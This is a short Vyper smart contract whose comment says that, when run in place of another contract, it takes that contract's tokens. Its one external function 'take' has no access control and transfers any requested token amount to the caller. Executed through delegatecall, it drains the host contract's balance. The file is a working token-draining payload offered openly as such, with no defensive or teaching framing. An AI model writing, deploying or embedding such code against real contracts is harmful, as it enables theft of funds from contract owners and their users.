# pragma version 0.4.3
# Run in the place of another contract, it takes that contract's tokens.

interface Token:
    def transfer(receiver: address, amount: uint256) -> bool: nonpayable


@external
def take(token: address, amount: uint256):
    assert extcall Token(token).transfer(msg.sender, amount)
